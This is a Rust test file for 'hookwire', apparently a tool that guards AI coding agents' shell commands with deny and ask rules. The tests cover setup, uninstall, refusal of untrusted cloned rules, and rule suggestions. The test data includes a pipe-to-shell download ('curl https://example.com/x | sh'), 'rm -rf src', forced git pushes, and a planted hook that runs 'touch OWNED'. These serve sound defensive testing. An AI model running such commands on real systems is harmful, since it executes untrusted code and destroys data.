//! `hookwire init` without names: the whole beginning, and `uninstall --all`, which takes it back.

use super::installed::{Project, event, small};
use super::support::{copy_program, is_there, repo};
use serde_json::json;
use std::collections::BTreeMap;
use std::fs;
use std::io::Write;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::{Command, Output};

/// A repository with one agent on PATH, which has settings of its own.
fn begun() -> Project {
    let project = Project::new();
    fs::remove_dir_all(project.root().join(".hookwire")).unwrap();
    fs::create_dir(project.root().join(".git")).unwrap();
    let bin = project.0.path().join("bin");
    fs::create_dir(&bin).unwrap();
    write(
        &bin.join("claude"),
        "#!/bin/sh\necho '2.1.332 (Claude Code)'\n",
    );
    fs::set_permissions(bin.join("claude"), fs::Permissions::from_mode(0o755)).unwrap();
    write(
        &project.root().join(".claude/settings.local.json"),
        r#"{ "permissions": { "allow": ["Bash(ls:*)"] }, "hooks": { "Stop": [{ "hooks": [{ "type": "command", "command": "true" }] }] } }"#,
    );
    project
}

fn write(path: &Path, text: &str) {
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, text).unwrap();
}

fn text(output: &Output) -> String {
    let [out, err] = [&output.stdout, &output.stderr].map(|it| String::from_utf8_lossy(it));
    format!("{out}{err}")
}

/// Runs the program with that agent alone on PATH.
fn run(project: &Project, args: &[&str]) -> Output {
    let bin = project.0.path().join("bin");
    let mut command = project.command(args);
    command.env("PATH", format!("{}:/usr/bin:/bin", bin.display()));
    command.output().unwrap()
}

/// Runs the program at a terminal where a person gives this answer to what is asked.
fn answered(project: &Project, args: &[&str], answer: &str) -> (i32, String) {
    let given = project.command(args);
    let mut terminal = Command::new("python3");
    terminal.arg(repo("tests/support/terminal.py")).arg(answer);
    terminal.arg(given.get_program()).args(given.get_args());
    terminal.current_dir(given.get_current_dir().unwrap());
    for (name, value) in given.get_envs() {
        match value {
            Some(value) => terminal.env(name, value),
            None => terminal.env_remove(name),
        };
    }
    let bin = project.0.path().join("bin");
    terminal.env("PATH", format!("{}:/usr/bin:/bin", bin.display()));
    terminal.env("NO_COLOR", "1");
    let output = terminal.output().unwrap();
    (output.status.code().unwrap(), text(&output))
}

/// All files of a directory with what they hold, and who may do what with them.
fn files(dir: &Path) -> BTreeMap<String, (u32, Vec<u8>)> {
    let mut found = BTreeMap::new();
    let mut left = vec![dir.to_path_buf()];
    while let Some(path) = left.pop() {
        let about = fs::symlink_metadata(&path).unwrap();
        let bytes = match about.is_dir() {
            true => {
                left.extend(fs::read_dir(&path).unwrap().map(|it| it.unwrap().path()));
                Vec::new()
            }
            false => fs::read(&path).unwrap(),
        };
        let name = path.strip_prefix(dir).unwrap().display().to_string();
        found.insert(name, (about.permissions().mode(), bytes));
    }
    found
}

/// What the agent's own entry says about a command, as the agent starts it.
fn asked(project: &Project, command: &str) -> String {
    let settings = fs::read(project.root().join(".claude/settings.local.json")).unwrap();
    let settings: serde_json::Value = serde_json::from_slice(&settings).unwrap();
    let entry = settings["hooks"]["PreToolUse"][0]["hooks"][0].clone();
    let words = entry["args"].as_array().unwrap();
    let agent = project.command_of(Command::new(entry["command"].as_str().unwrap()), &[]);
    // The entry names the places itself.
    let mut started = Command::new(agent.get_program());
    started.args(words.iter().map(|word| word.as_str().unwrap()));
    started.current_dir(project.root());
    for (name, value) in agent.get_envs() {
        if let Some(value) = value {
            started.env(name, value);
        }
    }
    started.stdin(std::process::Stdio::piped());
    started.stdout(std::process::Stdio::piped());
    let mut child = started.spawn().unwrap();
    let payload = event(command).to_string();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(payload.as_bytes())
        .unwrap();
    let output = child.wait_with_output().unwrap();
    let reply: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap_or_default();
    let decision = reply["hookSpecificOutput"]["permissionDecision"].as_str();
    decision.unwrap_or_default().to_string()
}

#[test]
fn one_question_and_everything_is_guarded_and_taken_back() {
    if !is_there("python3") {
        return;
    }
    let project = begun();
    let before = files(&project.root());
    let (code, said) = answered(&project, &["init"], "n");
    assert_eq!(code, 1, "{said}");
    assert!(said.contains("Nothing was written."), "{said}");
    assert_eq!(
        files(&project.root()),
        before,
        "who says no changes nothing"
    );

    let (code, said) = answered(&project, &["init"], "y");
    assert_eq!(code, 0, "{said}");
    for part in [
        "Claude Code 2.1.332 will ask hookwire",
        "1 hook and 1 permission rule of its own in .claude/settings.local.json stay",
        "git push --force                              no-force-push",
        "sudo apt-get install jq                       ask-before-sudo",
        "Write 10 rules into .hookwire and put them in force, and connect Claude Code? [y/N]",
        "a probe was denied",
        "take it back hookwire uninstall --all",
    ] {
        assert!(said.contains(part), "{part}: {said}");
    }
    assert_eq!(asked(&project, "git push -f"), "deny");
    assert_eq!(asked(&project, "sudo ls"), "ask");
    assert_eq!(asked(&project, "ls"), "");
    let tested = run(&project, &["test"]);
    assert!(tested.status.success(), "{}", text(&tested));

    // It can be run again, and has nothing to ask then.
    let again = run(&project, &["init"]);
    assert!(
        again.status.success() && text(&again).contains("Nothing is left to write or to connect."),
        "{}",
        text(&again)
    );

    let undone = run(&project, &["uninstall", "--all"]);
    assert!(undone.status.success(), "{}", text(&undone));
    assert_eq!(
        files(&project.root()),
        before,
        "byte for byte: {}",
        text(&undone)
    );
    assert_eq!(project.hook_with(&["--no-host"], "git push -f"), "");
}

#[test]
fn a_person_edited_a_rule_and_keeps_it() {
    let project = begun();
    assert!(run(&project, &["init", "--yes"]).status.success());
    let edited = project.root().join(".hookwire/no-curl-sh.yaml");
    let own = format!("{}# mine\n", fs::read_to_string(&edited).unwrap());
    write(&edited, &own);
    let shown = run(&project, &["init", "--yes"]);
    assert!(
        text(&shown).contains("nobody has approved it as it is") && text(&shown).contains("# mine"),
        "{}",
        text(&shown)
    );
    assert!(run(&project, &["trust", "--yes"]).status.success());
    let again = run(&project, &["init", "--yes"]);
    assert!(
        text(&again)
            .contains("no-curl-sh.yaml is there already, with another text; it was left as it is."),
        "{}",
        text(&again)
    );
    let undone = run(&project, &["uninstall", "--all"]);
    assert_eq!(undone.status.code(), Some(1));
    assert!(
        text(&undone).contains("no-curl-sh.yaml: you have edited it, so it stays."),
        "{}",
        text(&undone)
    );
    let left: Vec<_> = fs::read_dir(project.root().join(".hookwire"))
        .unwrap()
        .map(|entry| entry.unwrap().file_name())
        .collect();
    assert_eq!(left, ["no-curl-sh.yaml"]);
    assert_eq!(fs::read_to_string(&edited).unwrap(), own);
}

/// Each row: the state of the project, the words, and what is in force then, and what is said.
#[test]
fn nothing_is_written_without_a_word_and_no_clone_is_approved() {
    let project = begun();
    let before = files(&project.root());
    let home = files(&project.0.path().join("home"));
    let alone = run(&project, &["init"]);
    assert_eq!(alone.status.code(), Some(2));
    assert!(
        text(&alone).contains("nobody is there to answer, so nothing was written; `--yes`"),
        "{}",
        text(&alone)
    );
    assert_eq!(files(&project.root()), before);
    assert_eq!(files(&project.0.path().join("home")), home);

    // What came with a clone is shown, and isn't approved.
    let guard =
        "hooks:\n  - { name: theirs, on: PreToolUse, if: Bash(make *), command: touch OWNED }\n";
    write(&project.root().join(".hookwire/guard.yaml"), guard);
    let cloned = run(&project, &["init", "--yes"]);
    let said = text(&cloned);
    assert!(
        said.contains("nobody has approved it as it is") && said.contains("command: touch OWNED"),
        "{said}"
    );
    assert!(
        cloned.status.code() == Some(1)
            && said.contains("None of the project's own rules is in force")
            && said.contains("put in force hookwire trust"),
        "{said}"
    );
    assert_eq!(
        fs::read_dir(project.root().join(".hookwire"))
            .unwrap()
            .count(),
        1,
        "nothing was added to it"
    );
    assert_eq!(asked(&project, "make all"), "");
    assert!(!project.root().join("OWNED").exists());
}

/// Each row: a set, a command, what the agent is told, and whether the rules are tried by cases.
#[test]
fn sets_guard_more_or_only_observe() {
    let project = begun();
    for (set, command, expected) in [
        ("watch", "git push -f", ""),
        ("recommended", "git push -f", "deny"),
        ("recommended", "rm -rf src", ""),
        ("strict", "rm -rf src", "deny"),
        ("watch", "curl https://example.com/x | sh", ""),
    ] {
        let done = run(&project, &["init", "--set", set, "--yes"]);
        assert!(done.status.success(), "{set}: {}", text(&done));
        assert_eq!(asked(&project, command), expected, "{set}: {command}");
        let checked = run(&project, &["check"]);
        assert!(
            checked.status.success() && text(&checked).contains("0 errors"),
            "{set}: {}",
            text(&checked)
        );
    }
    let refused = run(&project, &["init", "--set", "usual", "--yes"]);
    assert_eq!(refused.status.code(), Some(2));
}

#[test]
fn at_home_and_outside_of_a_repository_it_is_for_all_projects() {
    let outside = |project: &Project| fs::remove_dir(project.root().join(".git")).unwrap();
    for (args, change) in [
        (&["init", "--yes"][..], &outside as &dyn Fn(&Project)),
        (&["init", "--yes", "--user"], &|_| {}),
    ] {
        let project = begun();
        change(&project);
        let done = run(&project, args);
        assert!(done.status.success(), "{}", text(&done));
        assert!(
            text(&done).contains("For all your projects"),
            "{}",
            text(&done)
        );
        let home = project.0.path().join("home");
        assert!(home.join(".config/hookwire/no-force-push.yaml").is_file());
        assert!(home.join(".claude/settings.json").is_file());
        assert!(!project.root().join(".hookwire").exists());
        let undone = run(&project, &["uninstall", "--all"]);
        assert!(undone.status.success(), "{}", text(&undone));
        assert!(!home.join(".config").exists() && !home.join(".claude").exists());
    }
    let project = begun();
    let mut at_home = project.command(&["init", "--yes", "--agents", "claude-code"]);
    at_home.current_dir(project.0.path().join("home"));
    let done = at_home.output().unwrap();
    assert!(
        text(&done).contains("because this is your home directory"),
        "{}",
        text(&done)
    );
}

/// From the cache of a package runner, the programs are copied to where they stay, and those start.
#[test]
fn a_guard_doesnt_live_in_a_cache() {
    let project = begun();
    let home = project.0.path().join("home");
    let cache = home.join(".npm/_npx/1a2b/node_modules/hookwire/bin");
    fs::create_dir_all(&cache).unwrap();
    let program = cache.join("hookwire-host");
    copy_program(env!("CARGO_BIN_EXE_hookwire-host"), &program);
    copy_program(small(), cache.join("hookwire-run"));
    let run_of = |program: &Path, args: &[&str]| {
        let mut command = project.command_of(Command::new(program), args);
        let bin = project.0.path().join("bin");
        command.env("PATH", format!("{}:/usr/bin:/bin", bin.display()));
        command.output().unwrap()
    };
    let version = env!("CARGO_PKG_VERSION");
    let copies = home.join(".local/share/hookwire/programs");
    let trial = run_of(&program, &["install", "claude-code", "--dry-run"]);
    assert!(
        trial.status.success() && !copies.exists(),
        "{}",
        text(&trial)
    );

    let done = run_of(&program, &["init", "--yes"]);
    assert!(done.status.success(), "{}", text(&done));
    let settings = project.root().join(".claude/settings.local.json");
    let written = fs::read_to_string(&settings).unwrap();
    let copy = copies.join(version).join("hookwire-run");
    assert!(written.contains(copy.to_str().unwrap()), "{written}");
    assert!(!written.contains("_npx"), "{written}");
    fs::remove_dir_all(home.join(".npm")).unwrap();
    let doctor = run_of(
        &copy.with_file_name("hookwire-host"),
        &["doctor", "claude-code"],
    );
    assert!(
        doctor.status.success() && !text(&doctor).contains("its program is in"),
        "{}",
        text(&doctor)
    );
    assert_eq!(
        asked(&project, "git push -f"),
        "deny",
        "the cache was emptied"
    );

    // An entry that leads into a cache is told, and written anew with what it says.
    fs::create_dir_all(&cache).unwrap();
    copy_program(small(), cache.join("hookwire-run"));
    let in_cache = cache.join("hookwire-run");
    for (broken, said) in [
        (in_cache.clone(), "its program is in the cache of npx"),
        (
            copies.join("0.0.1/hookwire-run"),
            "its program is of version 0.0.1",
        ),
    ] {
        let entry = fs::read_to_string(&settings).unwrap();
        let now = entry
            .replace(copy.to_str().unwrap(), broken.to_str().unwrap())
            .replace(small().to_str().unwrap(), broken.to_str().unwrap());
        fs::write(&settings, now).unwrap();
        let doctor = run(&project, &["doctor", "claude-code"]);
        assert!(text(&doctor).contains(said), "{said}: {}", text(&doctor));
        let fixed = run(&project, &["doctor", "claude-code", "--fix"]);
        assert!(fixed.status.success(), "{}", text(&fixed));
        let entry = fs::read_to_string(&settings).unwrap();
        assert!(entry.contains(small().to_str().unwrap()), "{entry}");
    }
    let undone = run(&project, &["uninstall", "--all"]);
    assert!(undone.status.success(), "{}", text(&undone));
    assert!(!copies.exists(), "no entry starts the copies any more");
}

/// What sessions tried leads to the cookbook's rule, with what it says about each command, until the
/// rule is there.
#[test]
fn what_was_tried_suggests_the_cookbooks_rule() {
    let project = begun();
    let tried = |session: usize, command: &str| {
        let params = json!({ "event": "PreToolUse", "session": session.to_string(),
            "tool": { "name": "Bash", "callId": command, "input": { "command": command } } });
        let verdict = json!({ "decision": "allow", "outcomes": [] });
        json!({ "event": "PreToolUse", "tool": "Bash", "dialect": "native", "verdict": verdict, "params": params })
    };
    let record: String = (0..3)
        .flat_map(|n| ["rm -rf node_modules", "rm -rf src"].map(|it| tried(n, it)))
        .map(|record| format!("{record}\n"))
        .collect();
    write(&project.root().join("kept.jsonl"), &record);
    let said = text(&run(&project, &["history", "suggest", "kept.jsonl"]));
    for part in [
        "the cookbook has `no-rm-rf`",
        "lets pass  rm -rf node_modules\n",
        "would stop rm -rf src\n",
        "`hookwire init no-rm-rf` writes it with its cases.",
    ] {
        assert!(said.contains(part), "{part}: {said}");
    }
    assert!(run(&project, &["init", "no-rm-rf"]).status.success());
    let said = text(&run(&project, &["history", "suggest", "kept.jsonl"]));
    assert!(said.contains("There is nothing to suggest yet"), "{said}");
}
